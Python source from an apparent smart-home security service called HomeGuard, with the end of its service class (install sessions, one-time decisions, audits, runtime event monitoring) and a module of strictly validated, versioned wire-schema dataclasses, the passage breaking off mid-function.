        home.decide(review, verdict, decided_by=policy.name)
        wire = InstallSession(
            session_id=session_id,
            home_id=home.home_id,
            app_name=review.app_name,
            status=SESSION_DECIDED,
            report=report,
            decision=verdict.value,
            decided_by=policy.name,
        )
        self._sessions[session_id] = _LiveSession(wire, None, None)
        self._remember_decided(session_id)
        return wire

    def session(self, session_id: str) -> InstallSession:
        live = self._sessions.get(session_id)
        if live is None:
            raise UnknownSessionError(
                f"no session {session_id!r}", session_id=session_id
            )
        return live.wire

    def sessions(self, home_id: str | None = None) -> list[InstallSession]:
        """All sessions (optionally one home's), in open order."""
        return [
            live.wire
            for live in self._sessions.values()
            if home_id is None or live.wire.home_id == home_id
        ]

    def decide(self, request: DecisionRequest) -> InstallSession:
        """Apply the tenant's one-time decision to a pending session."""
        self.home(request.home_id)  # raises UnknownHomeError
        live = self._sessions.get(request.session_id)
        if live is None or live.wire.home_id != request.home_id:
            raise UnknownSessionError(
                f"no session {request.session_id!r} in home "
                f"{request.home_id!r}",
                session_id=request.session_id,
                home_id=request.home_id,
            )
        if not live.wire.pending:
            raise SessionDecidedError(
                f"session {request.session_id!r} already decided "
                f"({live.wire.decision!r}); install decisions are "
                "one-time (paper §VIII-D.1)",
                session_id=request.session_id,
                decision=live.wire.decision,
            )
        assert live.review is not None  # pending sessions keep their review
        assert live.home is not None  # ... and pin their home resident
        live.home.decide(live.review, InstallDecision(request.decision))
        live.review = None  # decided: release the threat/rule graph
        live.home = None  # ... and un-pin the home
        remaining = self._pending_homes.get(request.home_id, 0) - 1
        if remaining > 0:
            self._pending_homes[request.home_id] = remaining
        else:
            self._pending_homes.pop(request.home_id, None)
        self._evict_over_limit()
        live.wire = InstallSession(
            session_id=live.wire.session_id,
            home_id=live.wire.home_id,
            app_name=live.wire.app_name,
            status=SESSION_DECIDED,
            report=live.wire.report,
            decision=request.decision,
        )
        self._remember_decided(live.wire.session_id)
        return live.wire

    def audit(self, request: AuditRequest) -> list[ThreatReport]:
        """Re-audit a home's installed apps (paper §VIII-D.3) and
        return one wire report per replayed app."""
        home = self.home(request.home_id)
        apps = None if request.apps is None else list(request.apps)
        return [
            ThreatReport.from_review(home.home_id, review)
            for review in home.audit_existing(apps)
        ]

    # ------------------------------------------------------------------
    # Runtime monitoring (DESIGN.md §16)

    def ingest_events(
        self, request: MonitorEventRequest
    ) -> list[ObservationRecord]:
        """Feed one batch of recorded device events through the home's
        runtime monitor and return the observations it produced.

        Ingestion is exactly-once per batch: a resent batch (same
        ``batch_id``, or byte-identical events) returns the original
        batch's observations without re-counting them, so transport
        retries are safe.  Observations persist through the home's
        store and survive eviction; the service-lifetime totals the
        ``status`` RPC reports accumulate here."""
        home = self.home(request.home_id)
        stats = home.pipeline.stats
        before_events = stats.monitor_events
        before_observations = stats.monitor_observations
        produced = home.ingest_events(
            request.to_events(), batch_id=request.batch_id
        )
        self._monitor_events_total += stats.monitor_events - before_events
        self._monitor_observations_total += (
            stats.monitor_observations - before_observations
        )
        return [ObservationRecord.from_observation(obs) for obs in produced]

    def observations(self, home_id: str) -> list[ObservationRecord]:
        """One home's full persisted observation ledger, in ingest
        order (re-hydrated from the store when the home was evicted)."""
        return [
            ObservationRecord.from_observation(obs)
            for obs in self.home(home_id).observations()
        ]

    def monitor_totals(self) -> dict[str, int]:
        """Service-lifetime monitor totals (events ingested and
        observations produced across every home, surviving home
        eviction) — the fleet-wide view the ``status`` RPC surfaces."""
        return {
            "monitor_events": self._monitor_events_total,
            "monitor_observations": self._monitor_observations_total,
        }

    # ------------------------------------------------------------------
    # Convenience queries

    def installed_apps(self, home_id: str) -> list[str]:
        return self.home(home_id).installed_apps()

    def detection_stats(self, home_id: str):
        """Cumulative solver/cache accounting for one home's reviews."""
        return self.home(home_id).pipeline.stats

    def detection_stats_record(self, home_id: str) -> DetectionStatsRecord:
        """One home's counters as a wire record — including the shared
        cross-tenant solve-cache hit/publish counters (DESIGN.md §12),
        so a fleet operator can monitor cache effectiveness without
        reaching into live engine objects."""
        return DetectionStatsRecord.from_stats(
            home_id, self.detection_stats(home_id)
        )

    def breaker_states(self) -> dict[str, str]:
        """Circuit-breaker state per resilient backend (DESIGN.md §15):
        ``solve-cache`` for the shared SQLite solve cache, ``store``
        for the fleet store database — only backends that *have* a
        breaker appear, so an all-in-memory service reports ``{}``."""
        states: dict[str, str] = {}
        cache = self.solve_cache
        if cache is not None and hasattr(cache, "breaker_state"):
            states["solve-cache"] = cache.breaker_state
        if self._fleet_backend is not None:
            states["store"] = self._fleet_backend.breaker_state
        return states

    def fault_summary(self) -> dict[str, int]:
        """Lifetime dispatch-recovery totals of the shared dispatcher
        (tasks_retried / chunks_requeued / pool_failures /
        degraded_serial) — the fleet-wide view the ``status`` RPC
        surfaces; per-home deltas live in each home's
        :class:`DetectionStatsRecord`."""
        dispatcher = self.dispatcher
        if dispatcher is None:
            return {}
        return dispatcher.fault_totals()

    # ------------------------------------------------------------------
    # Persistence

    def restore(self, home_id: str) -> list[str]:
        """Warm-start one home from its configured store; returns the
        restored app names (empty without a usable store)."""
        return self.home(home_id).load_store()

    def save(self, home_id: str | None = None) -> None:
        """Force store snapshots now (commits already save).  Without a
        ``home_id`` only *resident* homes snapshot — evicted homes are
        durable by construction (eviction requires a committed store)."""
        for home in (
            list(self._homes.values())
            if home_id is None
            else [self.home(home_id)]
        ):
            home.save_store()

    # ------------------------------------------------------------------
    # Lifecycle

    def close(self) -> None:
        """Release the shared dispatcher's workers, if any were
        started, and flush + close the shared solve cache, if one is
        configured.  Idempotent (every dispatcher's ``close`` is, and
        so are the cache backends'), and safe after a failed
        :meth:`restore` — tenant pipelines never own either, so one
        close here is complete.  A later detection run transparently
        restarts the pool; just close again when done.

        Also safe to call concurrently: the fleet server's drain path
        (an event-loop thread) and a ``with`` block (the main thread)
        may both reach here, so the two shutdown steps run under a
        lock, and a dispatcher that fails to close cannot leave the
        cache unflushed."""
        with self._close_lock:
            try:
                if self.dispatcher is not None:
                    self.dispatcher.close()
            finally:
                try:
                    if self.solve_cache is not None:
                        self.solve_cache.flush()
                        self.solve_cache.close()
                finally:
                    if self._fleet_backend is not None:
                        # Checkpoint only: the underlying connection may
                        # be shared with another controller's views.
                        self._fleet_backend.close()

    def __enter__(self) -> "HomeGuardService":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()

    def __repr__(self) -> str:
        return (
            f"HomeGuardService(homes={len(self._registry)}, "
            f"resident={len(self._homes)}, "
            f"dispatcher={self.dispatcher!r}, "
            f"policy={self.default_policy!r})"
        )
