"""Typed, versioned wire schemas for the HomeGuard service (DESIGN.md §11).

Every request a tenant sends to :class:`~repro.service.service
.HomeGuardService` and every response it returns is one of the frozen
dataclasses below — never an ad-hoc tuple or dict.  The contract:

* **Frozen** — wire objects are immutable value types; handlers cannot
  mutate a request in flight.
* **Versioned** — ``to_json`` stamps every record with its ``kind`` and
  the module-wide :data:`~repro.service.errors.WIRE_SCHEMA_VERSION`;
  ``from_json`` rejects records from a different version instead of
  guessing.  Changing any field list without bumping the version fails
  the schema-stability check (``make schema-check``), which pins the
  committed ``schema_manifest.json``.
* **JSON-round-trippable** — ``from_json(json.loads(json.dumps(
  obj.to_json()))) == obj`` holds for every model, so the same objects
  can cross a process boundary, a message queue, or the ROADMAP's
  future many-host dispatcher without a separate serialization layer.
* **Strict** — unknown fields, missing required fields and malformed
  shapes raise :class:`~repro.service.errors.SchemaMismatchError`; bad
  field *values* (e.g. an unknown decision verb) raise
  :class:`~repro.service.errors.InvalidRequestError` at construction
  time, so an invalid request object cannot even be built.

Regenerate the manifest after a deliberate, version-bumped change
with::

    python -m repro.service.schemas --write-manifest
"""

from __future__ import annotations

import dataclasses
import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, ClassVar

from repro.service.errors import (
    ERROR_CODES,
    WIRE_SCHEMA_VERSION,
    InvalidRequestError,
    SchemaMismatchError,
)

# The three one-time decision verbs of paper §VIII-D.1, as wire text
# (mirrors repro.frontend.app.InstallDecision values).
DECISION_VERBS = ("keep", "reconfigure", "delete")

# Monitor observation outcomes (DESIGN.md §16), as wire text (mirrors
# the repro.monitor.rules KIND_* vocabulary).
OBSERVATION_OUTCOMES = ("confirmed", "contradicted", "anomaly")

SESSION_PENDING = "pending"
SESSION_DECIDED = "decided"


# ----------------------------------------------------------------------
# Encode/decode helpers


def _wire_value(value: object) -> object:
    """A JSON-primitive view of one user/witness value (non-primitives
    degrade to ``str``, exactly like the config URI encoding does)."""
    if value is None or isinstance(value, (str, int, float, bool)):
        return value
    return str(value)


def _header(kind: str) -> dict:
    return {"kind": kind, "schema": WIRE_SCHEMA_VERSION}


def _check_header(kind: str, data: object) -> dict:
    if not isinstance(data, dict):
        raise SchemaMismatchError(
            f"{kind}: expected a JSON object, got {type(data).__name__}"
        )
    if data.get("kind") != kind:
        raise SchemaMismatchError(
            f"expected kind {kind!r}, got {data.get('kind')!r}"
        )
    if data.get("schema") != WIRE_SCHEMA_VERSION:
        raise SchemaMismatchError(
            f"{kind}: wire schema {data.get('schema')!r} != "
            f"{WIRE_SCHEMA_VERSION}; peers must speak the same version"
        )
    return data


def _str_field(kind: str, data: dict, name: str) -> str:
    value = data.get(name)
    if not isinstance(value, str):
        raise SchemaMismatchError(
            f"{kind}.{name}: expected a string, got {value!r}"
        )
    return value


def _opt_str_field(kind: str, data: dict, name: str) -> str | None:
    value = data.get(name)
    if value is not None and not isinstance(value, str):
        raise SchemaMismatchError(
            f"{kind}.{name}: expected a string or null, got {value!r}"
        )
    return value


def _int_field(kind: str, data: dict, name: str) -> int:
    value = data.get(name)
    # bool is an int subclass; a True/False counter is malformed wire.
    if not isinstance(value, int) or isinstance(value, bool):
        raise SchemaMismatchError(
            f"{kind}.{name}: expected an integer, got {value!r}"
        )
    return value


def _float_field(kind: str, data: dict, name: str) -> float:
    value = data.get(name)
    if not isinstance(value, (int, float)) or isinstance(value, bool):
        raise SchemaMismatchError(
            f"{kind}.{name}: expected a number, got {value!r}"
        )
    return float(value)


def _count_dict_field(kind: str, data: dict, name: str) -> dict[str, int]:
    value = data.get(name, {})
    if not isinstance(value, dict) or not all(
        isinstance(k, str)
        and isinstance(v, int)
        and not isinstance(v, bool)
        for k, v in value.items()
    ):
        raise SchemaMismatchError(
            f"{kind}.{name}: expected a string->integer object, "
            f"got {value!r}"
        )
    return dict(value)


def _seconds_dict_field(kind: str, data: dict, name: str) -> dict[str, float]:
    value = data.get(name, {})
    if not isinstance(value, dict) or not all(
        isinstance(k, str)
        and isinstance(v, (int, float))
        and not isinstance(v, bool)
        for k, v in value.items()
    ):
        raise SchemaMismatchError(
            f"{kind}.{name}: expected a string->number object, "
            f"got {value!r}"
        )
    return {k: float(v) for k, v in value.items()}


def _str_dict_field(kind: str, data: dict, name: str) -> dict[str, str]:
    value = data.get(name, {})
    if not isinstance(value, dict) or not all(
        isinstance(k, str) and isinstance(v, str) for k, v in value.items()
    ):
        raise SchemaMismatchError(
            f"{kind}.{name}: expected a string->string object, got {value!r}"
        )
    return dict(value)


def _reject_unknown(kind: str, data: dict, known: set[str]) -> None:
    unknown = set(data) - known - {"kind", "schema"}
    if unknown:
        raise SchemaMismatchError(
            f"{kind}: unknown field(s) {sorted(unknown)!r} — a schema "
            "change must bump WIRE_SCHEMA_VERSION"
        )


# ----------------------------------------------------------------------
# Requests


@dataclass(frozen=True)
class InstallRequest:
    """Install (or re-configure) one app in one tenant home.

    ``devices`` maps the app's device input names to *home device
    labels* (registered via ``register_device``) or bare device type
    names (a device of that type is auto-registered on first use —
    the same semantics the ``HomeGuard`` facade always had); ``values``
    are the user-entered input values.  ``source`` optionally carries
    custom SmartApp source for apps the shared backend has not
    extracted offline."""

    kind: ClassVar[str] = "InstallRequest"

    home_id: str
    app_name: str
    devices: dict[str, str] = field(default_factory=dict)
    values: dict[str, object] = field(default_factory=dict)
    source: str | None = None

    def __post_init__(self) -> None:
        if not self.home_id:
            raise InvalidRequestError("InstallRequest.home_id is empty")
        if not self.app_name:
            raise InvalidRequestError("InstallRequest.app_name is empty")

    def to_json(self) -> dict:
        return {
            **_header(self.kind),
            "home_id": self.home_id,
            "app_name": self.app_name,
            "devices": dict(self.devices),
            "values": {k: _wire_value(v) for k, v in self.values.items()},
            "source": self.source,
        }

    @classmethod
    def from_json(cls, data: object) -> "InstallRequest":
        data = _check_header(cls.kind, data)
        _reject_unknown(
            cls.kind, data,
            {"home_id", "app_name", "devices", "values", "source"},
        )
        values = data.get("values", {})
        if not isinstance(values, dict):
            raise SchemaMismatchError(
                f"{cls.kind}.values: expected an object, got {values!r}"
            )
        return cls(
            home_id=_str_field(cls.kind, data, "home_id"),
            app_name=_str_field(cls.kind, data, "app_name"),
            devices=_str_dict_field(cls.kind, data, "devices"),
            values={str(k): _wire_value(v) for k, v in values.items()},
            source=_opt_str_field(cls.kind, data, "source"),
        )


@dataclass(frozen=True)
class AuditRequest:
    """Re-run detection over a home's already-installed apps (the
    paper's §VIII-D.3 backward-compatibility audit).  ``apps`` limits
    the replay to the named apps; ``None`` audits everything."""

    kind: ClassVar[str] = "AuditRequest"

    home_id: str
    apps: tuple[str, ...] | None = None

    def __post_init__(self) -> None:
        if not self.home_id:
            raise InvalidRequestError("AuditRequest.home_id is empty")
        if self.apps is not None:
            # A bare string would silently iterate into characters and
            # audit nothing — reject it like any other invalid value.
            if isinstance(self.apps, (str, bytes)):
                raise InvalidRequestError(
                    "AuditRequest.apps must be a sequence of app names "
                    f"(or None), not a bare string: {self.apps!r}"
                )
            object.__setattr__(
                self, "apps", tuple(str(app) for app in self.apps)
            )

    def to_json(self) -> dict:
        return {
            **_header(self.kind),
            "home_id": self.home_id,
            "apps": None if self.apps is None else list(self.apps),
        }

    @classmethod
    def from_json(cls, data: object) -> "AuditRequest":
        data = _check_header(cls.kind, data)
        _reject_unknown(cls.kind, data, {"home_id", "apps"})
        apps = data.get("apps")
        if apps is not None and not (
            isinstance(apps, list)
            and all(isinstance(app, str) for app in apps)
        ):
            raise SchemaMismatchError(
                f"{cls.kind}.apps: expected a string list or null, "
                f"got {apps!r}"
            )
        return cls(
            home_id=_str_field(cls.kind, data, "home_id"),
            apps=None if apps is None else tuple(apps),
        )


@dataclass(frozen=True)
class DecisionRequest:
    """The tenant's one-time decision for a pending install session."""

    kind: ClassVar[str] = "DecisionRequest"

    home_id: str
    session_id: str
    decision: str

    def __post_init__(self) -> None:
        if not self.home_id:
            raise InvalidRequestError("DecisionRequest.home_id is empty")
        if not self.session_id:
            raise InvalidRequestError("DecisionRequest.session_id is empty")
        if self.decision not in DECISION_VERBS:
            raise InvalidRequestError(
                f"unknown decision verb {self.decision!r}; expected one "
                f"of {', '.join(DECISION_VERBS)}"
            )

    def to_json(self) -> dict:
        return {
            **_header(self.kind),
            "home_id": self.home_id,
            "session_id": self.session_id,
            "decision": self.decision,
        }

    @classmethod
    def from_json(cls, data: object) -> "DecisionRequest":
        data = _check_header(cls.kind, data)
        _reject_unknown(
            cls.kind, data, {"home_id", "session_id", "decision"}
        )
        return cls(
            home_id=_str_field(cls.kind, data, "home_id"),
            session_id=_str_field(cls.kind, data, "session_id"),
            decision=_str_field(cls.kind, data, "decision"),
        )


# ----------------------------------------------------------------------
# Responses


@dataclass(frozen=True)
class ThreatRecord:
    """One detected CAI threat, as wire data.

    The live :class:`~repro.detector.types.Threat` holds full
    :class:`~repro.rules.model.Rule` objects; the wire record carries
    their stable ids plus everything the front end renders — type,
    Table I category, witness situation, chain path and the
    human-readable explanation."""

    kind: ClassVar[str] = "ThreatRecord"

    type: str
    category: str
    rule_a: str
    rule_b: str
    apps: tuple[str, str]
    detail: str = ""
    witness: tuple[tuple[str, object], ...] = ()
    chain: tuple[str, ...] = ()
    description: str = ""

    @classmethod
    def from_threat(cls, threat) -> "ThreatRecord":
        from repro.frontend.threat_interpreter import describe_threat

        return cls(
            type=threat.type.value,
            category=threat.type.category,
            rule_a=threat.rule_a.rule_id,
            rule_b=threat.rule_b.rule_id,
            apps=(threat.rule_a.app_name, threat.rule_b.app_name),
            detail=threat.detail,
            witness=tuple(
                (str(key), _wire_value(value))
                for key, value in threat.witness
            ),
            chain=tuple(rule.rule_id for rule in threat.chain),
            description=describe_threat(threat),
        )

    def to_json(self) -> dict:
        return {
            **_header(self.kind),
            "type": self.type,
            "category": self.category,
            "rule_a": self.rule_a,
            "rule_b": self.rule_b,
            "apps": list(self.apps),
            "detail": self.detail,
            "witness": [[key, value] for key, value in self.witness],
            "chain": list(self.chain),
            "description": self.description,
        }

    @classmethod
    def from_json(cls, data: object) -> "ThreatRecord":
        data = _check_header(cls.kind, data)
        _reject_unknown(
            cls.kind, data,
            {"type", "category", "rule_a", "rule_b", "apps", "detail",
             "witness", "chain", "description"},
        )
        apps = data.get("apps")
        if not (
            isinstance(apps, list)
            and len(apps) == 2
            and all(isinstance(app, str) for app in apps)
        ):
            raise SchemaMismatchError(
                f"{cls.kind}.apps: expected two app names, got {apps!r}"
            )
        witness = data.get("witness", [])
        try:
            witness_pairs = tuple(
                (str(key), _wire_value(value)) for key, value in witness
            )
        except (TypeError, ValueError):
            raise SchemaMismatchError(
                f"{cls.kind}.witness: expected [key, value] pairs, "
                f"got {witness!r}"
            ) from None
        chain = data.get("chain", [])
        if not (
            isinstance(chain, list)
            and all(isinstance(rule_id, str) for rule_id in chain)
        ):
            raise SchemaMismatchError(
                f"{cls.kind}.chain: expected rule-id strings, got {chain!r}"
            )
        return cls(
            type=_str_field(cls.kind, data, "type"),
            category=_str_field(cls.kind, data, "category"),
            rule_a=_str_field(cls.kind, data, "rule_a"),
            rule_b=_str_field(cls.kind, data, "rule_b"),
            apps=(apps[0], apps[1]),
            detail=str(data.get("detail", "")),
            witness=witness_pairs,
            chain=tuple(chain),
            description=str(data.get("description", "")),
        )


@dataclass(frozen=True)
class ThreatReport:
    """Everything detection found for one app in one home — the wire
    form of an installation review screen (rendered rules + pairwise
    threats + chained threats through the home's Allowed list)."""

    kind: ClassVar[str] = "ThreatReport"

    home_id: str
    app_name: str
    rules: tuple[str, ...] = ()
    threats: tuple[ThreatRecord, ...] = ()
    chains: tuple[ThreatRecord, ...] = ()

    @property
    def clean(self) -> bool:
        return not self.threats and not self.chains

    @classmethod
    def from_review(cls, home_id: str, review) -> "ThreatReport":
        return cls(
            home_id=home_id,
            app_name=review.app_name,
            rules=tuple(review.rules),
            threats=tuple(
                ThreatRecord.from_threat(t) for t in review.threats
            ),
            chains=tuple(
                ThreatRecord.from_threat(t) for t in review.chains
            ),
        )

    def to_json(self) -> dict:
        return {
            **_header(self.kind),
            "home_id": self.home_id,
            "app_name": self.app_name,
            "rules": list(self.rules),
            "threats": [record.to_json() for record in self.threats],
            "chains": [record.to_json() for record in self.chains],
        }

    @classmethod
    def from_json(cls, data: object) -> "ThreatReport":
        data = _check_header(cls.kind, data)
        _reject_unknown(
            cls.kind, data,
            {"home_id", "app_name", "rules", "threats", "chains"},
        )
        rules = data.get("rules", [])
        if not (
            isinstance(rules, list)
            and all(isinstance(rule, str) for rule in rules)
        ):
            raise SchemaMismatchError(
                f"{cls.kind}.rules: expected rendered-rule strings, "
                f"got {rules!r}"
            )

        def records(name: str) -> tuple[ThreatRecord, ...]:
            entries = data.get(name, [])
            if not isinstance(entries, list):
                raise SchemaMismatchError(
                    f"{cls.kind}.{name}: expected a list, got {entries!r}"
                )
            return tuple(ThreatRecord.from_json(e) for e in entries)

        return cls(
            home_id=_str_field(cls.kind, data, "home_id"),
            app_name=_str_field(cls.kind, data, "app_name"),
            rules=tuple(rules),
            threats=records("threats"),
            chains=records("chains"),
        )


@dataclass(frozen=True)
class InstallSession:
    """One install request's lifecycle: review shown -> one-time
    decision applied.

    ``status`` is :data:`SESSION_PENDING` while the home's
    :class:`~repro.service.policies.HandlingPolicy` deferred to the
    user (the paper's interactive flow) and :data:`SESSION_DECIDED`
    once a decision landed; ``decided_by`` names the policy that
    decided automatically, or is ``None`` for a user decision."""

    kind: ClassVar[str] = "InstallSession"

    session_id: str
    home_id: str
    app_name: str
    status: str
    report: ThreatReport
    decision: str | None = None
    decided_by: str | None = None

    def __post_init__(self) -> None:
        if self.status not in (SESSION_PENDING, SESSION_DECIDED):
            raise InvalidRequestError(
                f"unknown session status {self.status!r}"
            )
        if self.decision is not None and self.decision not in DECISION_VERBS:
            raise InvalidRequestError(
                f"unknown decision verb {self.decision!r}"
            )

    @property
    def pending(self) -> bool:
        return self.status == SESSION_PENDING

    def to_json(self) -> dict:
        return {
            **_header(self.kind),
            "session_id": self.session_id,
            "home_id": self.home_id,
            "app_name": self.app_name,
            "status": self.status,
            "report": self.report.to_json(),
            "decision": self.decision,
            "decided_by": self.decided_by,
        }

    @classmethod
    def from_json(cls, data: object) -> "InstallSession":
        data = _check_header(cls.kind, data)
        _reject_unknown(
            cls.kind, data,
            {"session_id", "home_id", "app_name", "status", "report",
             "decision", "decided_by"},
        )
        return cls(
            session_id=_str_field(cls.kind, data, "session_id"),
            home_id=_str_field(cls.kind, data, "home_id"),
            app_name=_str_field(cls.kind, data, "app_name"),
            status=_str_field(cls.kind, data, "status"),
            report=ThreatReport.from_json(data.get("report")),
            decision=_opt_str_field(cls.kind, data, "decision"),
            decided_by=_opt_str_field(cls.kind, data, "decided_by"),
        )


@dataclass(frozen=True)
class MonitorEventRequest:
    """A batch of runtime events for one home's interference monitor
    (wire schema v6, DESIGN.md §16).

    ``events`` is a sequence of ``(subject, attribute, value,
    timestamp)`` tuples — the wire view of
    :class:`~repro.runtime.events.Event` — and is deliberately a
    *batch*: a 10k-event burst is one admission-controlled fleet job
    under the quota/fairness scheduler, not 10k.  ``batch_id`` is the
    client's idempotency token; a retried batch with the same id (or
    the same content, which the server hashes when the id is empty)
    returns the original observations instead of double-counting."""

    kind: ClassVar[str] = "MonitorEventRequest"

    home_id: str
    events: tuple[tuple[str, str, object, float], ...] = ()
    batch_id: str = ""

    def __post_init__(self) -> None:
        if not self.home_id:
            raise InvalidRequestError("MonitorEventRequest.home_id is empty")
        if not isinstance(self.batch_id, str):
            raise InvalidRequestError(
                "MonitorEventRequest.batch_id must be a string"
            )
        normalized = []
        for entry in self.events:
            try:
                subject, attribute, value, timestamp = entry
            except (TypeError, ValueError):
                raise InvalidRequestError(
                    "MonitorEventRequest.events: expected (subject, "
                    f"attribute, value, timestamp) tuples, got {entry!r}"
                ) from None
            if not (isinstance(subject, str) and subject):
                raise InvalidRequestError(
                    f"MonitorEventRequest.events: bad subject {subject!r}"
                )
            if not (isinstance(attribute, str) and attribute):
                raise InvalidRequestError(
                    f"MonitorEventRequest.events: bad attribute "
                    f"{attribute!r}"
                )
            if not isinstance(timestamp, (int, float)) or isinstance(
                timestamp, bool
            ):
                raise InvalidRequestError(
                    f"MonitorEventRequest.events: bad timestamp "
                    f"{timestamp!r}"
                )
            normalized.append(
                (subject, attribute, _wire_value(value), float(timestamp))
            )
        object.__setattr__(self, "events", tuple(normalized))

    @classmethod
    def from_events(
        cls, home_id: str, events, batch_id: str = ""
    ) -> "MonitorEventRequest":
        """Build from live :class:`~repro.runtime.events.Event`
        objects (e.g. an ``EventBus.history`` slice)."""
        return cls(
            home_id=home_id,
            events=tuple(
                (event.subject, event.name, _wire_value(event.value),
                 float(event.timestamp))
                for event in events
            ),
            batch_id=batch_id,
        )

    def to_events(self):
        """The batch as live runtime events, replay-ready."""
        from repro.runtime.events import Event

        return [
            Event(
                subject=subject, name=attribute, value=value,
                timestamp=timestamp,
            )
            for subject, attribute, value, timestamp in self.events
        ]

    def to_json(self) -> dict:
        return {
            **_header(self.kind),
            "home_id": self.home_id,
            "events": [
                [subject, attribute, value, timestamp]
                for subject, attribute, value, timestamp in self.events
            ],
            "batch_id": self.batch_id,
        }

    @classmethod
    def from_json(cls, data: object) -> "MonitorEventRequest":
        data = _check_header(cls.kind, data)
        _reject_unknown(cls.kind, data, {"home_id", "events", "batch_id"})
        events = data.get("events", [])
        if not isinstance(events, list):
            raise SchemaMismatchError(
                f"{cls.kind}.events: expected a list, got {events!r}"
            )
        decoded = []
        for entry in events:
            if not (isinstance(entry, list) and len(entry) == 4):
                raise SchemaMismatchError(
                    f"{cls.kind}.events: expected [subject, attribute, "
                    f"value, timestamp] entries, got {entry!r}"
                )
            decoded.append(tuple(entry))
        batch_id = data.get("batch_id", "")
        if not isinstance(batch_id, str):
            raise SchemaMismatchError(
                f"{cls.kind}.batch_id: expected a string, got {batch_id!r}"
            )
        return cls(
            home_id=_str_field(cls.kind, data, "home_id"),
            events=tuple(decoded),
            batch_id=batch_id,
        )


@dataclass(frozen=True)
class ObservationRecord:
    """One deduplicated monitor observation, as wire data (wire schema
    v6, DESIGN.md §16) — the persisted evidence that a statically
    predicted threat fired (``outcome="confirmed"``), that its
    prediction failed to hold (``"contradicted"``), or that an anomaly
    rule flagged emergent behavior the solver never saw
    (``"anomaly"``).

    ``key`` is the observation's deterministic identity (the
    exactly-once dedup key); ``threat_key`` links confirmation
    observations back to their static threat; ``timestamp`` is event
    time, so replaying the same trace reproduces the record
    byte-for-byte."""

    kind: ClassVar[str] = "ObservationRecord"

    key: str
    home_id: str
    rule: str
    outcome: str
    subject: str
    threat_key: str = ""
    detail: str = ""
    timestamp: float = 0.0
    window_seconds: float = 0.0

    def __post_init__(self) -> None:
        if not self.key:
            raise InvalidRequestError("ObservationRecord.key is empty")
        if not self.home_id:
            raise InvalidRequestError("ObservationRecord.home_id is empty")
        if self.outcome not in OBSERVATION_OUTCOMES:
            raise InvalidRequestError(
                f"unknown observation outcome {self.outcome!r}; expected "
                f"one of {', '.join(OBSERVATION_OUTCOMES)}"
            )

    @classmethod
    def from_observation(cls, observation) -> "ObservationRecord":
        """Build from a :class:`~repro.monitor.engine.Observation`."""
        return cls(
            key=observation.key,
            home_id=observation.home_id,
            rule=observation.rule,
            outcome=observation.kind,
            subject=observation.subject,
            threat_key=observation.threat_key,
            detail=observation.detail,
            timestamp=observation.timestamp,
            window_seconds=observation.window_seconds,
        )

    def to_observation(self):
        from repro.monitor.engine import Observation

        return Observation(
            key=self.key,
            home_id=self.home_id,
            rule=self.rule,
            kind=self.outcome,
            subject=self.subject,
            threat_key=self.threat_key,
            detail=self.detail,
            timestamp=self.timestamp,
            window_seconds=self.window_seconds,
        )

    def to_json(self) -> dict:
        return {
            **_header(self.kind),
            "key": self.key,
            "home_id": self.home_id,
            "rule": self.rule,
            "outcome": self.outcome,
            "subject": self.subject,
            "threat_key": self.threat_key,
            "detail": self.detail,
            "timestamp": self.timestamp,
            "window_seconds": self.window_seconds,
        }

    @classmethod
    def from_json(cls, data: object) -> "ObservationRecord":
        data = _check_header(cls.kind, data)
        _reject_unknown(
            cls.kind, data,
            {"key", "home_id", "rule", "outcome", "subject", "threat_key",
             "detail", "timestamp", "window_seconds"},
        )
        return cls(
            key=_str_field(cls.kind, data, "key"),
            home_id=_str_field(cls.kind, data, "home_id"),
            rule=_str_field(cls.kind, data, "rule"),
            outcome=_str_field(cls.kind, data, "outcome"),
            subject=_str_field(cls.kind, data, "subject"),
            threat_key=str(data.get("threat_key", "")),
            detail=str(data.get("detail", "")),
            timestamp=_float_field(cls.kind, data, "timestamp"),
            window_seconds=_float_field(cls.kind, data, "window_seconds"),
        )


@dataclass(frozen=True)
class DetectionStatsRecord:
    """One home's cumulative solver/cache accounting, as wire data.

    Mirrors the counter fields of
    :class:`~repro.detector.engine.DetectionStats` that a fleet
    operator monitors: how many pairs detection examined, how many the
    signature prescreen pruned, and where the verdicts came from —
    fresh solver calls, the home's own solve cache, or the shared
    cross-tenant solve cache (DESIGN.md §12).  The shared-cache
    counters are a versioned addition (wire schema v2), the
    storage-engine counters — bytes the store backend durably wrote
    for this home's commits and the wall seconds those commits took
    (DESIGN.md §14) — a v4 one, the fault-recovery counters
    (DESIGN.md §15) a v5 one, and the runtime-monitor counters —
    events ingested, deduplicated observations, and their
    confirmed/contradicted/anomaly split (DESIGN.md §16) — a v6 one;
    peers on an older version reject the record instead of silently
    dropping fields."""

    kind: ClassVar[str] = "DetectionStatsRecord"

    home_id: str
    solver_calls: int = 0
    cache_hits: int = 0
    shared_cache_hits: int = 0
    shared_cache_publishes: int = 0
    pairs_examined: int = 0
    prescreen_pruned_pairs: int = 0
    planned_pairs: int = 0
    store_bytes_written: int = 0
    store_commit_seconds: float = 0.0
    tasks_retried: int = 0
    chunks_requeued: int = 0
    pool_failures: int = 0
    degraded_serial: int = 0
    monitor_events: int = 0
    monitor_observations: int = 0
    threats_confirmed: int = 0
    threats_contradicted: int = 0
    anomalies_flagged: int = 0

    def __post_init__(self) -> None:
        if not self.home_id:
            raise InvalidRequestError("DetectionStatsRecord.home_id is empty")

    @classmethod
    def from_stats(cls, home_id: str, stats) -> "DetectionStatsRecord":
        return cls(
            home_id=home_id,
            solver_calls=stats.solver_calls,
            cache_hits=stats.cache_hits,
            shared_cache_hits=stats.shared_cache_hits,
            shared_cache_publishes=stats.shared_cache_publishes,
            pairs_examined=stats.pairs_examined,
            prescreen_pruned_pairs=stats.prescreen_pruned_pairs,
            planned_pairs=stats.planned_pairs,
            store_bytes_written=stats.store_bytes_written,
            store_commit_seconds=stats.store_commit_seconds,
            tasks_retried=stats.tasks_retried,
            chunks_requeued=stats.chunks_requeued,
            pool_failures=stats.pool_failures,
            degraded_serial=stats.degraded_serial,
            monitor_events=stats.monitor_events,
            monitor_observations=stats.monitor_observations,
            threats_confirmed=stats.threats_confirmed,
            threats_contradicted=stats.threats_contradicted,
            anomalies_flagged=stats.anomalies_flagged,
        )

    def to_json(self) -> dict:
        return {
            **_header(self.kind),
            "home_id": self.home_id,
            "solver_calls": self.solver_calls,
            "cache_hits": self.cache_hits,
            "shared_cache_hits": self.shared_cache_hits,
